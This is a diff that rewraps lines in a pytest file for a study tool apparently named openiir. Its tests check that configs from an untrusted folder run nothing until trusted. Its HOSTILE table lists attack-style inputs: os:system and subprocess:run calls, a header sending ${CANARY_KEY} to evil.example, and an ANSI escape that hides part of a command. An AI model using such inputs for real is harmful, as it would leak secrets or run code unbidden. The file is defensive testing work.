@@ -50,38 +50,68 @@ HOSTILE = {
     "a ranker": (FEED + 'ranker = "code_of_theirs:rank"\n', "code_of_theirs:rank (config.ranker)"),
     "a ranker of the library": (FEED + 'ranker = "os:system"\n', "os:system (config.ranker)"),
     "a ranker beside": (FEED + 'beside = ["code_of_theirs:rank"]\n', "code_of_theirs:rank (config.beside)"),
-    "a ranker in the log": (FEED + 'evaluate = ["code_of_theirs:rank"]\n', "code_of_theirs:rank (config.evaluate)"),
-    "a ranker from a step on": (
-        FEED + '[[change]]\nstep = 2\nset = { ranker = "code_of_theirs:rank" }\n', "code_of_theirs:rank (config.ranker)"
+    "a ranker in the log": (
+        FEED + 'evaluate = ["code_of_theirs:rank"]\n',
+        "code_of_theirs:rank (config.evaluate)",
     ),
-    "a ranker in a file": (FEED + 'beliefs = { file = "code.toml" }\nranker = "code_of_theirs:rank"\n', "rank (config.ranker)"),
-    "a recommender": (LISTS + 'systems = ["code_of_theirs:recommend"]\n', "code_of_theirs:recommend (config.systems.by)"),
+    "a ranker from a step on": (
+        FEED + '[[change]]\nstep = 2\nset = { ranker = "code_of_theirs:rank" }\n',
+        "code_of_theirs:rank (config.ranker)",
+    ),
+    "a ranker in a file": (
+        FEED + 'beliefs = { file = "code.toml" }\nranker = "code_of_theirs:rank"\n',
+        "rank (config.ranker)",
+    ),
+    "a recommender": (
+        LISTS + 'systems = ["code_of_theirs:recommend"]\n',
+        "code_of_theirs:recommend (config.systems.by)",
+    ),
     "a recommender with options": (
-        LISTS + 'systems = [{ name = "x", by = "subprocess:run", options = { args = ["touch", "canary"] } }]\n',
+        LISTS
+        + 'systems = [{ name = "x", by = "subprocess:run", options = { args = ["touch", "canary"] } }]\n',
         "subprocess:run (config.systems.by)",
     ),
     "a recommender for a first visit": (
-        LISTS + 'visitors = { warm_up = "code_of_theirs:recommend" }\n', "recommend (config.visitors.warm_up)"
+        LISTS + 'visitors = { warm_up = "code_of_theirs:recommend" }\n',
+        "recommend (config.visitors.warm_up)",
     ),
-    "a pipeline of classes": (LISTS + 'systems = ["lenskit:pipeline.toml"]\n', "pipeline.toml (config.systems.by)"),
-    "a function that makes a pipeline": (LISTS + 'systems = ["lenskit:code_of_theirs:rank"]\n', "code_of_theirs:rank (config"),
+    "a pipeline of classes": (
+        LISTS + 'systems = ["lenskit:pipeline.toml"]\n',
+        "pipeline.toml (config.systems.by)",
+    ),
+    "a function that makes a pipeline": (
+        LISTS + 'systems = ["lenskit:code_of_theirs:rank"]\n',
+        "code_of_theirs:rank (config",
+    ),
     "a callable system": (PYTHON + 'callable = "code_of_theirs:Bot"\n', "code_of_theirs:Bot ([system.x])"),
     "a shell": (
-        PYTHON + 'callable = "os:system"\nrequest = "touch canary"\n', 'os:system, with "touch canary" ([system.x])'
+        PYTHON + 'callable = "os:system"\nrequest = "touch canary"\n',
+        'os:system, with "touch canary" ([system.x])',
     ),
     "a command": (STDIO + TOUCH, "starts the command"),
-    "a command that hides": (STDIO + 'command = ["touch", "canary\\u001b[2K\\nnothing to see"]\n', "canary\\x1b[2K\\nnothing to see"),
-    "a variable for a command": (STDIO + TOUCH + 'variables = ["CANARY_KEY"]\n', "environment variable CANARY_KEY to that command"),
+    "a command that hides": (
+        STDIO + 'command = ["touch", "canary\\u001b[2K\\nnothing to see"]\n',
+        "canary\\x1b[2K\\nnothing to see",
+    ),
+    "a variable for a command": (
+        STDIO + TOUCH + 'variables = ["CANARY_KEY"]\n',
+        "environment variable CANARY_KEY to that command",
+    ),
     "a variable for a host": (
         HTTP + 'url = "https://evil.example/x"\nheaders = { X = "${CANARY_KEY}" }\n',
         "CANARY_KEY to https://evil.example ([system.x], header X)",
     ),
     "a variable for this machine": (
-        HTTP + 'url = "http://127.0.0.1:9/"\nheaders = { X = "${CANARY_KEY}" }\n', "CANARY_KEY to http://127.0.0.1:9"
+        HTTP + 'url = "http://127.0.0.1:9/"\nheaders = { X = "${CANARY_KEY}" }\n',
+        "CANARY_KEY to http://127.0.0.1:9",
     ),
-    "a private address": (HTTP + 'url = "http://10.0.0.7:8080/turn"\n', "talks with http://10.0.0.7:8080, which"),
+    "a private address": (
+        HTTP + 'url = "http://10.0.0.7:8080/turn"\n',
+        "talks with http://10.0.0.7:8080, which",
+    ),
     "a host to say goodbye to": (
-        HTTP + 'url = "http://127.0.0.1:9/"\n[system.x.close]\nurl = "https://evil.example/bye"\n', "talks with https://evil.example"
+        HTTP + 'url = "http://127.0.0.1:9/"\n[system.x.close]\nurl = "https://evil.example/bye"\n',
+        "talks with https://evil.example",
     ),
 }
 
@@ -94,7 +124,9 @@ def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, with_parlour: None) -
     (folder / "code_of_theirs.py").write_text(CODE)
     (folder / "code.toml").write_text("")
     (folder / "pipeline.toml").write_text("")
-    (folder / "sea.md").write_text("Ropes should be checked every day because worn ropes part without a sound.\n")
+    (folder / "sea.md").write_text(
+        "Ropes should be checked every day because worn ropes part without a sound.\n"
+    )
     (folder / "people.toml").write_text('[[persona]]\nid = "ada"\nname = "Ada"\nbio = "Ada fishes."\n')
     monkeypatch.syspath_prepend(str(folder))
     monkeypatch.delitem(sys.modules, "code_of_theirs", raising=False)
@@ -113,7 +145,9 @@ async def in_this_process(folder: Path, settings: Settings, cells: Any, workers:
 
 
 @pytest.mark.parametrize("what", HOSTILE)
-def test_a_study_of_a_stranger_runs_nothing(what: str, place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+def test_a_study_of_a_stranger_runs_nothing(
+    what: str, place: Path, openiir: Callable[..., Any], tmp_path: Path
+) -> None:
     study, words = HOSTILE[what]
     (place / "study.toml").write_text(study)
     for command in (["run", "--out", tmp_path / "run"], ["audit"], ["sweep", "--out", tmp_path / "sweep"]):
@@ -128,7 +162,9 @@ def test_a_study_of_a_stranger_runs_nothing(what: str, place: Path, openiir: Cal
     assert not (tmp_path / "run").exists() and not (tmp_path / "sweep").exists()
 
 
-def test_leave_is_remembered_until_a_named_file_changes(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+def test_leave_is_remembered_until_a_named_file_changes(
+    place: Path, openiir: Callable[..., Any], tmp_path: Path
+) -> None:
     (place / "study.toml").write_text(RANKED)
     assert openiir("run", place, "--trust", "--out", tmp_path / "once").code == 0
     assert openiir("run", place, "--out", tmp_path / "run").code == 2, "leave for one run is for that run"
@@ -143,7 +179,9 @@ def test_leave_is_remembered_until_a_named_file_changes(place: Path, openiir: Ca
     assert openiir("replay", tmp_path / "run").content == ran.content
 
 
-def test_runs_and_sweeps_of_a_stranger_are_studies_too(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+def test_runs_and_sweeps_of_a_stranger_are_studies_too(
+    place: Path, openiir: Callable[..., Any], tmp_path: Path
+) -> None:
     (place / "study.toml").write_text(RANKED + '[sweep]\n"config.epsilon" = [0.1]\n')
     run, sweep = tmp_path / "run", tmp_path / "sweep"
     assert openiir("run", place, "--trust", "--out", run).code == 0
@@ -155,16 +193,27 @@ def test_runs_and_sweeps_of_a_stranger_are_studies_too(place: Path, openiir: Cal
     before = (run / "run.db").read_bytes()
     (place / "canary").unlink()
     sys.modules.pop("code_of_theirs")
-    for words in (("resume", run), ("fork", run, "--step", 2, "--set", "epsilon=0.5", "--out", tmp_path / "fork"), ("resume", sweep)):
+    for words in (
+        ("resume", run),
+        ("fork", run, "--step", 2, "--set", "epsilon=0.5", "--out", tmp_path / "fork"),
+        ("resume", sweep),
+    ):
         refused = openiir(*words)
         assert refused.code == 2 and "code_of_theirs:rank (config.ranker)" in refused.err, refused.err
     assert (run / "run.db").read_bytes() == before and not (tmp_path / "fork").exists()
     assert not (place / "canary").exists() and "code_of_theirs" not in sys.modules
-    assert openiir("fork", run, "--step", 2, "--set", "epsilon=0.5", "--out", tmp_path / "fork", "--trust").code == 0
+    assert (
+        openiir("fork", run, "--step", 2, "--set", "epsilon=0.5", "--out", tmp_path / "fork", "--trust").code
+        == 0
+    )
 
 
-def test_values_of_a_sweep_are_listed_with_the_study(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
-    (place / "study.toml").write_text(FEED + 'beside = []\n[sweep]\n"config.ranker" = ["code_of_theirs:rank"]\n')
+def test_values_of_a_sweep_are_listed_with_the_study(
+    place: Path, openiir: Callable[..., Any], tmp_path: Path
+) -> None:
+    (place / "study.toml").write_text(
+        FEED + 'beside = []\n[sweep]\n"config.ranker" = ["code_of_theirs:rank"]\n'
+    )
     assert openiir("sweep", place, "--out", tmp_path / "sweep").code == 2 and not (place / "canary").exists()
     assert "code_of_theirs:rank" in openiir("trust", place).err
     assert openiir("sweep", place, "--out", tmp_path / "sweep").code == 0
@@ -180,9 +229,13 @@ def test_leave_for_a_sweep_holds_wherever_one_stands(
     assert (resumed := openiir("resume", tmp_path / "sweep")).code == 0, resumed.err
 
 
-def test_settings_allow_by_name_command_and_host(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+def test_settings_allow_by_name_command_and_host(
+    place: Path, openiir: Callable[..., Any], tmp_path: Path
+) -> None:
     settings = tmp_path / "settings.toml"
-    settings.write_text('[trust]\ncommands = ["touch canary"]\nhosts = ["evil.example"]\nvariables = ["CANARY_KEY"]\ncallables = ["a:b"]\n')
+    settings.write_text(
+        '[trust]\ncommands = ["touch canary"]\nhosts = ["evil.example"]\nvariables = ["CANARY_KEY"]\ncallables = ["a:b"]\n'
+    )
     allowed = {
         "touch": STDIO + 'command = "touch canary"\n',
         "host": HTTP + 'url = "https://EVIL.example/x"\nheaders = { X = "${CANARY_KEY}" }\n',
@@ -191,20 +244,28 @@ def test_settings_allow_by_name_command_and_host(place: Path, openiir: Callable[
     for name, study in allowed.items():
         (place / "study.toml").write_text(study)
         assert openiir("run", place, "--settings", settings, "--out", tmp_path / name).code == 0, name
-    for study in (STDIO + 'command = ["touch", "canary", "x"]\n', HTTP + 'url = "https://evil.example.org/x"\n', PYTHON + 'callable = "a:c"\n'):
+    for study in (
+        STDIO + 'command = ["touch", "canary", "x"]\n',
+        HTTP + 'url = "https://evil.example.org/x"\n',
+        PYTHON + 'callable = "a:c"\n',
+    ):
         (place / "study.toml").write_text(study)
         assert openiir("run", place, "--settings", settings, "--out", tmp_path / "other").code == 2
     assert not (place / "canary").exists(), "a system that nobody asks is not started"
 
 
-def test_what_a_callable_is_given_is_part_of_the_leave(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+def test_what_a_callable_is_given_is_part_of_the_leave(
+    place: Path, openiir: Callable[..., Any], tmp_path: Path
+) -> None:
     (place / "study.toml").write_text(PYTHON + 'callable = "os:getenv"\nrequest = "HOME"\n')
     assert openiir("trust", place).code == 0 and openiir("run", place, "--out", tmp_path / "one").code == 0
     (place / "study.toml").write_text(PYTHON + 'callable = "os:getenv"\nrequest = "CANARY_KEY"\n')
     assert openiir("run", place, "--out", tmp_path / "two").code == 2
 
 
-def test_a_record_of_leave_that_cannot_be_read_is_named(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+def test_a_record_of_leave_that_cannot_be_read_is_named(
+    place: Path, openiir: Callable[..., Any], tmp_path: Path
+) -> None:
     (place / "study.toml").write_text(EVENING)
     (tmp_path / "settings" / "openiir").mkdir(parents=True)
     (tmp_path / "settings" / "openiir" / "trusted.json").write_text("[]")
@@ -284,25 +345,37 @@ def test_paths_of_a_study_stay_in_its_folder(
 
 
 def test_a_command_gets_the_variables_declared_for_it_alone(place: Path, openiir: Callable[..., Any]) -> None:
-    (place / "tell.py").write_text("import json, os, sys\nfor line in sys.stdin: print(json.dumps(sorted(os.environ)), flush=True)\n")
-    declared = f'connector = "stdio"\nformat = "text"\ncommand = ["{sys.executable}", "tell.py"]\ntimeout = 10\n'
+    (place / "tell.py").write_text(
+        "import json, os, sys\nfor line in sys.stdin: print(json.dumps(sorted(os.environ)), flush=True)\n"
+    )
+    declared = (
+        f'connector = "stdio"\nformat = "text"\ncommand = ["{sys.executable}", "tell.py"]\ntimeout = 10\n'
+    )
     (place / "quiet.toml").write_text(declared)
     (place / "told.toml").write_text(declared + 'variables = ["CANARY_KEY"]\n')
-    quiet, told = (openiir("doctor", "--system", place / f"{name}.toml", "--trust").out for name in ("quiet", "told"))
+    quiet, told = (
+        openiir("doctor", "--system", place / f"{name}.toml", "--trust").out for name in ("quiet", "told")
+    )
     assert "PATH" in quiet and "CANARY_KEY" not in quiet and "XDG_CONFIG_HOME" not in quiet
     assert "CANARY_KEY" in told
 
 
-def test_a_key_in_the_place_of_an_endpoint_is_not_repeated(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
+def test_a_key_in_the_place_of_an_endpoint_is_not_repeated(
+    place: Path, openiir: Callable[..., Any], tmp_path: Path
+) -> None:
     settings = tmp_path / "settings.toml"
     for line in ('endpoint = "sk-canary-1234"', '[endpoint]\nurl = "sk-canary-1234"'):
         settings.write_text(line)
         refused = openiir("doctor", "--settings", settings)
-        assert refused.code == 2 and "canary" not in refused.err and "http://localhost" in refused.err, refused.err
+        assert refused.code == 2 and "canary" not in refused.err and "http://localhost" in refused.err, (
+            refused.err
+        )
 
 
 def test_leave_is_kept_with_its_words(place: Path, openiir: Callable[..., Any], tmp_path: Path) -> None:
     (place / "study.toml").write_text(HOSTILE["a shell"][0])
     openiir("trust", place)
     kept = json.loads((tmp_path / "settings" / "openiir" / "trusted.json").read_text())
-    assert list(kept.values()) == ['imports and calls the Python code os:system, with "touch canary" ([system.x])']
+    assert list(kept.values()) == [
+        'imports and calls the Python code os:system, with "touch canary" ([system.x])'
+    ]
